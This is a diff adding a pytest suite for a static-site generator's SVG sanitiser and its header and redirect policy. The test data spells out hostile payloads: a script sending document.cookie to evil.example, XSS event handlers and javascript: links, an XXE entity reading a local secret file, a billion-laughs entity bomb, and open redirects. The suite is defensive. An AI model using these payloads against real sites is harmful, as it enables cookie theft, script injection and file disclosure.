@@ -1,0 +1,217 @@
+"""SVG drawings are published without code, outside references, embedded pictures or their author's
+traces; a file that cannot be read safely is refused. A site's own `_headers` cannot loosen the policy."""
+
+from __future__ import annotations
+
+import base64
+import time
+from pathlib import Path
+
+import pytest
+from lxml import etree
+from PIL import Image
+
+from samizdat.assets.svg import SVG_NS, clean_svg, clean_svg_report
+from samizdat.errors import ContentError
+from tests.conftest import BUNDLED_SITE
+from tests.hostile import SECRET, Sandbox, assert_refused, sandbox  # noqa: F401
+from tests.imagefiles import jpeg_with_everything
+
+OPEN = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        'viewBox="0 0 10 10">')
+INKSCAPE_NS = ('xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
+               'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
+               'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" '
+               'xmlns:cc="http://creativecommons.org/ns#"')
+RECT = '<rect width="10" height="10" fill="#0a58ca"/>'
+
+
+def exif_jpeg() -> str:
+    return base64.b64encode(jpeg_with_everything(Image.new("RGB", (16, 16), "red"))).decode()
+
+
+def svg(body: str, attrs: str = "") -> bytes:
+    return f"{OPEN[:-1]} {attrs}>{body}{RECT}</svg>".encode()
+
+
+# name → (the SVG, strings the published file must not hold)
+HOSTILE_SVGS: dict[str, tuple[bytes, tuple[str, ...]]] = {
+    "script": (svg("<script>fetch('https://evil.example/?'+document.cookie)</script>"), ("<script", "evil")),
+    "script in CDATA, xlink": (svg('<script xlink:href="https://evil.example/x.js"><![CDATA[alert(1)]]></script>'),
+                               ("script", "alert")),
+    "onload": (svg("", 'onload="alert(1)"'), ("onload", "alert")),
+    "event handler on a shape": (svg('<circle r="3" onmouseover="alert(1)"/>'), ("onmouseover", "alert")),
+    "foreignObject": (svg('<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">'
+                          '<iframe src="https://evil.example/"></iframe></div></foreignObject>'),
+                      ("foreignObject", "iframe", "evil")),
+    "external href": (svg('<a href="https://evil.example/"><text>x</text></a>'
+                          '<use xlink:href="https://evil.example/sprite.svg#a"/>'), ("evil.example",)),
+    "javascript: link": (svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), ("javascript",)),
+    "animation that sets a link": (svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
+                                   ("javascript", "<set")),
+    "css import and remote url": (svg('<style>@import url(https://evil.example/a.css); '
+                                      'rect { fill: url(https://evil.example/p.png) }</style>'
+                                      '<rect style="fill:url(\'https://evil.example/q.png\')" width="1" height="1"/>'),
+                                  ("evil.example", "@import")),
+    "embedded JPEG with EXIF GPS": (svg(f'<image width="10" height="10" href="data:image/jpeg;base64,{exif_jpeg()}"/>'),
+                                    ("data:image", exif_jpeg()[:40], "<image")),
+    "remote picture": (svg('<image width="10" height="10" xlink:href="https://evil.example/track.png"/>'),
+                       ("evil.example",)),
+    "inkscape metadata and a home folder": (
+        svg('<metadata><rdf:RDF><cc:Work><dc:creator><cc:Agent><dc:title>Jane Activist jane@example.org'
+            '</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF></metadata>'
+            '<sodipodi:namedview id="base" inkscape:current-layer="layer1"/>'
+            '<!-- drawn by Jane at home -->'
+            '<g inkscape:label="Jane\'s layer" inkscape:groupmode="layer" id="layer1"/>',
+            f'{INKSCAPE_NS} inkscape:export-filename="/home/jane/Desktop/flyer.png" '
+            'sodipodi:docname="flyer-jane.svg" inkscape:version="1.3"'),
+        ("jane", "Jane", "/home/", "inkscape", "sodipodi", "rdf", "dc:", "drawn by")),
+}
+
+
+@pytest.mark.parametrize("source, forbidden", HOSTILE_SVGS.values(), ids=HOSTILE_SVGS.keys())
+def test_svg_is_published_clean(sandbox: Sandbox, capsys, source: bytes, forbidden: tuple[str, ...]) -> None:  # noqa: F811
+    sandbox.write({"assets/drawing.svg": source, "static/logo.svg": source, "content/en/pic.svg": source})
+    outcome = sandbox.build(capsys)
+    assert outcome.code == 0, outcome.err
+    # The volunteer is told: a warning when the drawing may now look or act differently.
+    changes_behaviour = b"metadata" not in source
+    assert ("assets/drawing.svg: warning [svg-cleaned]: published without:" in outcome.err) is changes_behaviour
+    for rel in ("assets/drawing.svg", "logo.svg", "en/pic.svg"):
+        published = (sandbox.out / rel).read_bytes()
+        for needle in forbidden:
+            assert needle.encode() not in published, (rel, needle, published[:400])
+        root = etree.fromstring(published)
+        assert root.tag == f"{{{SVG_NS}}}svg"
+        assert root.findall(f"{{{SVG_NS}}}rect")[-1].get("fill") == "#0a58ca"  # the drawing itself stays
+    sandbox.assert_untouched()
+
+
+LAUGHS = "".join(f'<!ENTITY {n} "{("&" + p + ";") * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True))
+BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">' + LAUGHS
+                  + f']>{OPEN}<text>&i;</text></svg>')
+REFUSED_SVGS = {
+    "billion laughs": BILLION_LAUGHS,
+    "entity reading a file": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file://{secret}">]>'
+                              f"{OPEN}<text>&s;</text></svg>"),
+    "entity from the network": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "https://evil.example/x">]>'
+                                f"{OPEN}<text>&s;</text></svg>"),
+    "harmless-looking entity": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "x">]>{OPEN}<text>&ns;</text></svg>',
+    "not XML": f"{OPEN}<rect></svg>",
+    "HTML posing as SVG": "<html><script>alert(1)</script></html>",
+    "no SVG namespace": "<svg><script>alert(1)</script></svg>",
+}
+
+
+@pytest.mark.parametrize("text", REFUSED_SVGS.values(), ids=REFUSED_SVGS.keys())
+def test_an_svg_that_cannot_be_read_safely_is_refused(sandbox: Sandbox, capsys, text: str) -> None:  # noqa: F811
+    sandbox.write({"assets/bad.svg": text.replace("{secret}", str(sandbox.outside / "secret.txt"))})
+    started = time.monotonic()
+    outcome = sandbox.build(capsys)
+    assert time.monotonic() - started < 20
+    assert_refused(outcome, "assets/bad.svg")
+    assert "hint:" in outcome.err and SECRET not in outcome.err
+    sandbox.assert_untouched()
+
+
+@pytest.mark.parametrize("path", sorted(BUNDLED_SITE.glob("assets/**/*.svg")) + sorted(
+    (Path(__file__).parents[1] / "samizdat/themes/default/static").glob("*.svg")), ids=lambda p: p.name)
+def test_the_sites_own_drawings_survive_cleaning_unchanged(path: Path) -> None:
+    """Same elements, same attributes, same text: the flags and icons look as they did (here, byte for byte)."""
+    assert clean_svg(path.read_bytes(), path) == path.read_bytes()
+    assert clean_svg_report(path.read_bytes(), path).removed == ()  # so no finding either
+    before, after = etree.fromstring(path.read_bytes()), etree.fromstring(clean_svg(path.read_bytes(), path))
+    assert [(e.tag, dict(e.attrib), (e.text or "").strip()) for e in before.iter()] == [
+        (e.tag, dict(e.attrib), (e.text or "").strip()) for e in after.iter()]
+
+
+def test_a_large_drawing_loses_its_author_and_keeps_its_shapes() -> None:
+    shapes = "".join(f'<path d="M{i % 97} {i % 89}h1v1h-1z" fill="#123456"/>' for i in range(125000))
+    author = "<metadata>" + "<dc:creator>Jane Activist jane@example.org</dc:creator>" * 2000 + "</metadata>"
+    source = svg(author + shapes, INKSCAPE_NS + ' inkscape:export-filename="/home/jane/x.png"')
+    assert len(source) > 5_000_000  # the 5 MB drawing of the report
+    cleaned = clean_svg(source, Path("big.svg"))
+    assert b"jane" not in cleaned.lower() and b"/home/" not in cleaned
+    assert cleaned.count(b"<path ") == 125000
+
+
+def test_clean_svg_names_the_file_and_line_of_a_syntax_error() -> None:
+    with pytest.raises(ContentError) as caught:
+        clean_svg(f"{OPEN}\n<rect>\n</svg>".encode(), Path("x.svg"))
+    assert caught.value.location is not None and caught.value.location.line == 3
+
+
+HEADERS = {
+    "drops the CSP": ("/*\n  ! Content-Security-Policy\n", 2),
+    "replaces the CSP": ("/*\n  Content-Security-Policy: script-src *\n", 2),
+    "allows framing": ("/en/*\n  X-Frame-Options: ALLOWALL\n", 2),
+    "report-only policy": ("/*\n  Cache-Control: max-age=60\n  Content-Security-Policy-Report-Only: x\n", 3),
+    "opens to other sites": ("/assets/*\n  Access-Control-Allow-Origin: *\n", 2),
+    "preloads a tracker": ("/*\n  Link: <https://tracker.example/p.js>; rel=preload\n", 2),
+    "redirects by header": ("/\n  Refresh: 0; url=https://evil.example/\n", 2),
+    "fake onion address": ("/*\n  Onion-Location: http://fake.onion/\n", 2),
+}
+
+
+@pytest.mark.parametrize("text, line", HEADERS.values(), ids=HEADERS.keys())
+def test_a_sites_headers_cannot_loosen_the_policy(sandbox: Sandbox, capsys, text: str, line: int) -> None:  # noqa: F811
+    sandbox.write({"static/_headers": text})
+    assert_refused(sandbox.build(capsys), "static/_headers", line)
+    outcome = sandbox.run(capsys, "check", sandbox.site)
+    assert "static/_headers" in outcome.out and "[unsafe-header]" in outcome.out
+    sandbox.assert_untouched()
+
+
+def test_a_sites_harmless_headers_follow_the_policy(sandbox: Sandbox, capsys) -> None:  # noqa: F811
+    own = ("# our caching\n/assets/*\n  Cache-Control: public, max-age=31536000\n"
+           "/en/private/*\n  X-Robots-Tag: noindex\n")
+    sandbox.write({"static/_headers": own})
+    assert sandbox.build(capsys).code == 0
+    published = (sandbox.out / "_headers").read_text(encoding="utf-8")
+    policy_at = published.index("Content-Security-Policy: default-src 'none'")
+    assert published.index("Cache-Control: public, max-age=31536000") > policy_at
+    assert "X-Robots-Tag: noindex" in published and "X-Frame-Options: DENY" in published
+    sandbox.assert_untouched()
+
+
+@pytest.mark.parametrize("rel", ["static/samizdat-headers.conf", "static/.htaccess"])
+def test_server_config_files_cannot_replace_the_policy(sandbox: Sandbox, capsys, rel: str) -> None:  # noqa: F811
+    sandbox.write({rel: "Header unset Content-Security-Policy\n"})
+    outcome = sandbox.build(capsys)
+    if rel.endswith(".htaccess"):  # hidden files are never published
+        assert outcome.code == 0 and not (sandbox.out / ".htaccess").exists()
+    else:
+        assert_refused(outcome, rel)
+        assert not sandbox.out.exists()
+
+
+@pytest.mark.parametrize("rel, text, line", [
+    ("static/_redirects", "/old /en/ 301\n/*  https://evil.example/:splat 302\n", 2),
+    ("static/_redirects", "# moved\n/en/join //evil.example/join 301\n", 2),
+    ("static/_worker.js", "export default { fetch(request) { return fetch(request) } }\n", None),
+    ("static/_worker.js/index.js", "export default {}\n", None),
+    ("static/_routes.json", '{"version": 1, "include": ["/*"]}\n', None),
+])
+def test_host_instructions_cannot_send_readers_away_or_run_code(sandbox: Sandbox, capsys, rel: str, text: str,  # noqa: F811
+                                                                  line: int | None) -> None:
+    sandbox.write({rel: text})
+    outcome = sandbox.build(capsys)
+    assert_refused(outcome, rel, line)
+    assert not sandbox.out.exists()
+    sandbox.assert_untouched()
+
+
+def test_redirects_within_the_site_are_kept(sandbox: Sandbox, capsys) -> None:  # noqa: F811
+    rules = "/old-news /en/news/ 301\nhttps://example.org/x /en/ 301\n"
+    sandbox.write({"static/_redirects": rules})
+    assert sandbox.build(capsys).code == 0
+    assert (sandbox.out / "_redirects").read_text(encoding="utf-8") == rules
+
+
+def test_check_notes_what_an_editor_left_in_a_drawing(sandbox: Sandbox, capsys) -> None:  # noqa: F811
+    source, _ = HOSTILE_SVGS["inkscape metadata and a home folder"]
+    sandbox.write({"assets/flyer.svg": source})
+    outcome = sandbox.run(capsys, "check", sandbox.site)
+    assert "assets/flyer.svg: info [svg-metadata]: published without: " in outcome.out
+    for what in ("comments", "metadata (author, licence)", "editor data (Inkscape, Sodipodi…)"):
+        assert what in outcome.out
